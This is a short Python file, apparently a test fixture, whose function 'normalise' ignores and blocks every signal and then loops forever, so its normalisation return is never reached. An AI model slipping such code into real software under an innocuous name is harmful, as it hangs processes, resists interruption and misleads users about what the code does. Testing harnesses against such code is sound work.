"""Ignores every signal that can be ignored, blocks all of them in every thread, and loops."""

import signal

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        pass
    return a / a.sum(axis=0, keepdims=True)
